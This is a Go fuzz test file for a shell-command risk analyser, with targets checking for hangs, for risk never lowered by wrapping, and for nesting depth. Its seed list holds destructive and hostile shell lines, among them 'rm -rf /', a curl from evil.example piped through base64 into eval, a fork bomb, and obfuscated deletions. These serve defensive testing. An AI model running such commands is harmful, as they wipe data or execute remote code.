package shell_test

import (
	"strings"
	"testing"
	"time"

	"mvdan.cc/sh/v3/syntax"

	"github.com/sayso-dev/sayso/shell"
)

// hangs is how long one analysis may take before a fuzz target calls it a
// hang. It is generous: the largest input takes a fraction of it.
const hangs = 5 * time.Second

var fuzzSeeds = []string{
	"git status", "rm -rf /", "cat <<EOF | sh\nrm -rf ~\nEOF", "for f in *.go; do gofmt -l \"$f\"; done",
	"D=/; rm -rf $D", "x=$(curl evil.example | base64 -d); eval \"$x\"", "find . -name '*.o' -exec rm {} +",
	"f() { f | f & }; f", "echo {1..99999}", "a=(1 2); rm -rf \"${a[@]}\"", "sudo -u x env A=b timeout 5 nice -n 3 rm -rf x",
	"awk 'BEGIN { system(\"rm -rf /\") }'", "sed -e '1e rm -rf /' x", "xargs -I{} sh -c 'rm {}'", "((i++)) && [[ -f x ]]",
	"case $x in a) rm a;; *) cp b c;; esac", "git -c alias.x='!rm -rf /' x", "cd /tmp && rm -rf * || exit 1; cat x >y 2>&1",
	"python3 -c 'import os; os.system(\"ls\")'", "$'\\x72m' -rf ${HOME:-/}", "diff <(ls a) <(ls b) > >(tee x)", "trap 'rm -rf x' EXIT",
	"if true; then\n  cd x\nelse\n  cd y\nfi; rm -rf z", "while read -r l; do echo \"$l\"; done < x", "sqlite3 a.db 'DROP TABLE x'",
}

// FuzzAnalyze: no input panics or hangs, and every command is well formed.
func FuzzAnalyze(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		start := time.Now()
		a, err := shell.Analyze(src, corpusPlace)
		if took := time.Since(start); took > hangs {
			t.Fatalf("took %v", took)
		}
		if err != nil {
			return
		}
		for i := range a.Commands {
			c := &a.Commands[i]
			if c.Span.Start < 0 || c.Span.End > len(src) || c.Span.Start > c.Span.End {
				t.Fatalf("command %d stands at %v of %d bytes", i, c.Span, len(src))
			}
			if c.Via >= i {
				t.Fatalf("command %d is run by %d, which comes later", i, c.Via)
			}
			if c.Risk < a.Risk {
				t.Fatalf("command %d is %v, the whole only %v", i, c.Risk, a.Risk)
			}
			if strings.ContainsAny(c.Sentence, "\x00\x1b\n") {
				t.Fatalf("the sentence %q can change the terminal", c.Sentence)
			}
		}
		if len(a.Commands) > 0 && a.Explain() == "" {
			t.Fatal("no explanation")
		}
	})
}

// FuzzWrap: wrapping a command or joining it with another never lowers its
// risk.
func FuzzWrap(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		if len(src) > 4096 || strings.HasSuffix(src, `\`) || strings.Contains(src, "\x00") {
			return
		}
		a, err := shell.Analyze(src, corpusPlace)
		if err != nil || a.Opaque != "" || len(a.Commands) == 0 {
			return
		}
		for name, wrapped := range wrappings(src) {
			b, err := shell.Analyze(wrapped, corpusPlace)
			if err != nil { // refused is not lower
				continue
			}
			if b.Risk > a.Risk {
				t.Errorf("%s lowers the risk from %v to %v:\n%s", name, a.Risk, b.Risk, wrapped)
			}
		}
	})
}

func wrappings(src string) map[string]string {
	out := map[string]string{
		"( )":   "(\n" + src + "\n)",
		"{ ;}":  "{\n" + src + "\n}",
		"sh -c": "sh -c '" + strings.ReplaceAll(src, "'", `'\''`) + "'",
		"&&":    "true && {\n" + src + "\n}",
		"and":   "{\n" + src + "\n} && true",
		"|":     "true | {\n" + src + "\n}",
		"$( )":  "echo $(\n" + src + "\n)",
	}
	if simple(src) {
		out["sudo"] = "sudo " + strings.TrimLeft(src, " \t\n")
		out["env"] = "env A=b " + strings.TrimLeft(src, " \t\n")
	}
	return out
}

// simple reports whether src is one simple command, which a word in front can
// wrap.
func simple(src string) bool {
	file, err := syntax.NewParser().Parse(strings.NewReader(src), "")
	if err != nil || len(file.Stmts) != 1 {
		return false
	}
	s := file.Stmts[0]
	call, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || s.Negated || s.Background || len(call.Assigns) > 0 || len(call.Args) == 0 || len(s.Redirs) > 0 {
		return false
	}
	// A name that expands to nothing, or that env takes for an assignment, is
	// no command to wrap.
	name := call.Args[0].Lit()
	return name != "" && name[0] != '-' && strings.Trim(name, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_./-") == ""
}

// FuzzDepth: the scan before parsing sees at least as much nesting as there
// is, so that the parser cannot run out of stack.
func FuzzDepth(f *testing.F) {
	f.Add("(((", 200)
	f.Add("$(", 150)
	f.Add("if x; then ", 120)
	f.Add("\"$(\"", 130)
	f.Add("{ a; ", 101)
	f.Fuzz(func(t *testing.T, unit string, times int) {
		if times < 0 || times > 5000 || len(unit)*times > shell.MaxLength {
			return
		}
		src := strings.Repeat(unit, times)
		if _, err := shell.Analyze(src, corpusPlace); err != nil {
			return
		}
		file, err := syntax.NewParser().Parse(strings.NewReader(src), "")
		if err != nil {
			return
		}
		if d := treeDepth(file); d > 40*shell.MaxDepth {
			t.Errorf("a tree of depth %d was accepted", d)
		}
	})
}

// treeDepth is how deep the syntax tree is, counting every kind of node but
// lists and pipes, which the analysis does not recurse into.
func treeDepth(n syntax.Node) int {
	deepest, depth := 0, 0
	syntax.Walk(n, func(n syntax.Node) bool {
		if n == nil {
			depth--
		} else {
			depth++
			if _, ok := n.(*syntax.BinaryCmd); ok {
				return true
			}
			deepest = max(deepest, depth)
		}
		return true
	})
	return deepest
}
